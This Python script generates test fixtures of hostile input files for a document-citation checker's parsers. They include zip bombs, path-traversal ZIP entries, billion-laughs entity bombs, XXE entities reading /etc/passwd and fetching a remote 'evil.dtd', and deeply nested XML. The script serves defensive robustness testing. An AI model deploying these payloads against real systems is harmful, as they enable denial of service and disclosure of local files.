#!/usr/bin/env python3
"""Write the hostile inputs that citeproof's readers must refuse or survive.

Python standard library only; deterministic (every ZIP member is dated
1980-01-01 and the ZIP files are assembled byte by byte here), so a rerun
rewrites identical files. See README.md for what each file is and what a
correct reader must do with it.

Usage:
  generate.py [OUTDIR]          the small files (all < 200 KB) into OUTDIR
                                (default: this script's folder)
  generate.py --large OUTDIR    also zip-bomb-1gib.docx (~1.1 MB, inflates to
                                1 GiB + 16 MiB); not committed: tests make it
                                at run time into a temporary folder
"""

import os
import struct
import sys
import zlib

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
REL_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
REL_FOOTNOTES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/footnotes.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"/>'
    "</Types>")
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    f'<Relationships xmlns="{PKG_RELS}"><Relationship Id="rId1" Type="{REL_DOC}" Target="word/document.xml"/>'
    "</Relationships>")


def document_rels(footnotes_target="footnotes.xml"):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            f'<Relationships xmlns="{PKG_RELS}">'
            f'<Relationship Id="rId1" Type="{REL_FOOTNOTES}" Target="{footnotes_target}"/></Relationships>')


def document_xml(body_text="Officials confirmed the closure on March 3, 2024.", doctype=""):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype +
            f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>'
            f'<w:p><w:r><w:t xml:space="preserve">{body_text}</w:t></w:r>'
            '<w:r><w:rPr><w:rStyle w:val="FootnoteReference"/></w:rPr><w:footnoteReference w:id="1"/></w:r></w:p>'
            "</w:body></w:document>")


def footnotes_xml(note_text="Riverton Ledger, March 3, 2024.", doctype=""):
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' + doctype +
            f'<w:footnotes xmlns:w="{W}" xmlns:r="{R}">'
            '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p></w:footnote>'
            '<w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r><w:continuationSeparator/></w:r></w:p></w:footnote>'
            '<w:footnote w:id="1"><w:p><w:r><w:rPr><w:rStyle w:val="FootnoteReference"/></w:rPr><w:footnoteRef/></w:r>'
            f'<w:r><w:t xml:space="preserve"> {note_text}</w:t></w:r></w:p></w:footnote></w:footnotes>')


def docx_members(document=None, footnotes=None, rels=None):
    return [("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", ROOT_RELS),
            ("word/document.xml", document or document_xml()),
            ("word/_rels/document.xml.rels", rels or document_rels()),
            ("word/footnotes.xml", footnotes or footnotes_xml())]


ODT_MANIFEST = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
    '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
    '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
    "</manifest:manifest>")
ODT_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"')


def odt_content(body_text, note_text, doctype=""):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n' + doctype +
            f"<office:document-content {ODT_NS}><office:body><office:text>"
            f'<text:p>{body_text}<text:note text:id="ftn1" text:note-class="footnote">'
            f"<text:note-citation>1</text:note-citation><text:note-body><text:p>{note_text}</text:p>"
            "</text:note-body></text:note></text:p></office:text></office:body></office:document-content>")


def odt_members(content):
    return [("mimetype", "application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", ODT_MANIFEST), ("content.xml", content)]


# --- a ZIP writer that does what zipfile will not: lie about sizes, keep '../' names --------------

DOS_DATE = (0 << 9) | (1 << 5) | 1   # 1980-01-01
DOS_TIME = 0


class Entry:
    def __init__(self, name, payload, method, crc, size, declared_size=None):
        self.name, self.payload, self.method, self.crc = name.encode("utf-8"), payload, method, crc
        self.size = size
        self.declared_size = size if declared_size is None else declared_size


def entry(name, data, stored=False):
    data = data.encode("utf-8") if isinstance(data, str) else data
    if stored:
        return Entry(name, data, 0, zlib.crc32(data), len(data))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return Entry(name, compressor.compress(data) + compressor.flush(), 8, zlib.crc32(data), len(data))


def zip_bytes(entries):
    out, central = bytearray(), bytearray()
    for e in entries:
        offset = len(out)
        fields = (20, 0, e.method, DOS_TIME, DOS_DATE, e.crc, len(e.payload), e.declared_size, len(e.name))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + e.name + e.payload
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, *fields, 0, 0, 0, 0,
                               0o100644 << 16, offset) + e.name
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0)
    return bytes(out)


def docx(members):
    return zip_bytes([entry(n, d) for n, d in members])


def odt(members):
    return zip_bytes([entry(n, d, stored=(n == "mimetype")) for n, d in members])


def bomb_entry(name, prefix, blocks, declared_size=None):
    """A deflate member: prefix, then `blocks` x 16 MiB of spaces, at ~1028:1."""
    chunk = b" " * (16 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = block.compress(chunk) + block.flush(zlib.Z_FULL_FLUSH)   # byte-aligned, no back-references out
    payload = head + block * blocks + b"\x03\x00"                      # \x03\x00 = final empty fixed block
    crc = zlib.crc32(prefix)
    for _ in range(blocks):
        crc = zlib.crc32(chunk, crc)
    size = len(prefix) + blocks * len(chunk)
    return Entry(name, payload, 8, crc, size, declared_size)


def zip_bomb(blocks, declared_size=None):
    prefix = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
              f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t xml:space="preserve">').encode()
    members = [m for m in docx_members() if m[0] != "word/document.xml"]
    return zip_bytes([entry(n, d) for n, d in members[:2]]
                     + [bomb_entry("word/document.xml", prefix, blocks, declared_size)]
                     + [entry(n, d) for n, d in members[2:]])


# --- XML entity attacks ----------------------------------------------------------------------------

def billion_laughs(root):
    lines = ['<!ENTITY lol0 "lol">']
    lines += [f'<!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">' for i in range(1, 10)]
    return f"<!DOCTYPE {root} [\n  " + "\n  ".join(lines) + "\n]>\n"


def external_entity(root):
    return (f'<!DOCTYPE {root} [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
            '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n  %remote;\n]>\n')


# --- non-archive inputs ----------------------------------------------------------------------------

def png(width=8, height=8):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"".join(bytes((x * 32 % 256, y * 32 % 256, 128)) for x in range(width))
                    for y in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows, 9)) + chunk(b"IEND", b""))


MARKDOWN_DRAFT = """---
title: "Ferry Timetable Cut Angers Island Commuters"
date: 2024-02-14
---

The island ferry will run four times a day instead of seven from March, the operator said.[^1]
Commuters called the cut "a sentence of isolation"[^2] in a petition signed by 3,000 people.

[^1]: Harbour Lines, "Winter Timetable," February 12, 2024.

[^2]: t.me/island_commuters/77, February 13, 2024.
"""

PLAIN_DRAFT = """Ferry Timetable Cut Angers Island Commuters

February 14, 2024

The island ferry will run four times a day instead of seven from March, the operator said.[1]

Commuters called the cut \u201ca sentence of isolation\u201d in a petition signed by 3,000 people. [2]

[1] Harbour Lines, \u201cWinter Timetable,\u201d February 12, 2024.

[2] Telegram.me/island_commuters, February 13, 2024.
"""


def invalid_utf8_markdown():
    head, sep, tail = MARKDOWN_DRAFT.partition("Commuters called")
    # a Latin-1 byte, a lone continuation byte, and a truncated 3-byte sequence, mid-draft
    return head.encode() + b"Caf\xe9 owners and \x80 commuters \xe2\x80 " + (sep + tail).encode()


def html_with_entities():
    return ('<?xml version="1.0" encoding="UTF-8"?>\n'
            '<!DOCTYPE html SYSTEM "http://127.0.0.1:9/xhtml.dtd" [\n'
            '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
            '  <!ENTITY % remote SYSTEM "http://127.0.0.1:9/evil.dtd">\n  %remote;\n'
            '  <!ENTITY lol0 "lol">\n'
            + "".join(f'  <!ENTITY lol{i} "{("&lol%d;" % (i - 1)) * 10}">\n' for i in range(1, 10)) +
            ']>\n<html xmlns="http://www.w3.org/1999/xhtml"><head><meta charset="utf-8"/>'
            '<meta name="dcterms.date" content="2024-03-05"/><title>Depot closure</title></head><body>\n'
            '<p>Officials confirmed the closure on March 3, 2024.<a href="#fn1" class="footnote-ref" id="fnref1" '
            'role="doc-noteref"><sup>1</sup></a> Residents answered &lol9;.</p>\n'
            '<section class="footnotes" role="doc-endnotes"><ol>\n'
            '<li id="fn1" role="doc-endnote"><p>&xxe; Riverton Ledger, March 3, 2024.'
            '<a href="#fnref1" class="footnote-back" role="doc-backlink">\u21a9</a></p></li>\n'
            "</ol></section></body></html>\n")


def deep_nesting_docx(depth=100_000):
    body = "<w:p><w:r><w:t>Deep.</w:t></w:r></w:p>"
    nested = "<w:sdt><w:sdtContent>" * depth + body + "</w:sdtContent></w:sdt>" * depth
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
           f'<w:document xmlns:w="{W}"><w:body>{nested}</w:body></w:document>')
    return docx(docx_members(document=doc))


def small_files():
    valid = docx(docx_members())
    traversal = zip_bytes([entry(n, d) for n, d in docx_members(rels=document_rels("../../../../etc/passwd"))]
                          + [entry("../../evil.xml", "<evil>outside the archive</evil>"),
                             entry("/tmp/citeproof-evil.xml", "<evil>absolute path</evil>"),
                             entry("word/../../../evil2.xml", "<evil>climbs out of word/</evil>")])
    return {
        "valid-minimal.docx": valid,
        "zip-bomb-ratio.docx": zip_bomb(blocks=9),
        "zip-bomb-lying-size.docx": zip_bomb(blocks=4, declared_size=4096),
        "path-traversal.docx": traversal,
        "truncated.docx": valid[: len(valid) // 2],
        "not-a-zip.docx": MARKDOWN_DRAFT.encode(),
        "billion-laughs.docx": docx(docx_members(document=document_xml(
            "Officials confirmed the closure &lol9;.", billion_laughs("w:document")))),
        "xxe-footnotes.docx": docx(docx_members(footnotes=footnotes_xml(
            "&xxe; Riverton Ledger, March 3, 2024.", external_entity("w:footnotes")))),
        "deep-nesting.docx": deep_nesting_docx(),
        "billion-laughs.odt": odt(odt_members(odt_content(
            "Officials confirmed the closure &lol9;.", "Riverton Ledger, March 3, 2024.",
            billion_laughs("office:document-content")))),
        "xxe.odt": odt(odt_members(odt_content(
            "Officials confirmed the closure on March 3, 2024.", "&xxe; Riverton Ledger, March 3, 2024.",
            external_entity("office:document-content")))),
        "xxe.html": html_with_entities().encode(),
        "binary-png.md": png(),
        "invalid-utf8.md": invalid_utf8_markdown(),
        "utf16le-bom.txt": b"\xff\xfe" + PLAIN_DRAFT.encode("utf-16-le"),
        "empty.md": b"",
    }


def main():
    args = sys.argv[1:]
    large = "--large" in args
    args = [a for a in args if a != "--large"]
    outdir = args[0] if args else os.path.dirname(os.path.abspath(__file__))
    os.makedirs(outdir, exist_ok=True)
    files = small_files()
    if large:
        files["zip-bomb-1gib.docx"] = zip_bomb(blocks=65)
    for name, data in sorted(files.items()):
        with open(os.path.join(outdir, name), "wb") as handle:
            handle.write(data)
        print(f"{len(data):>9}  {name}")


if __name__ == "__main__":
    main()
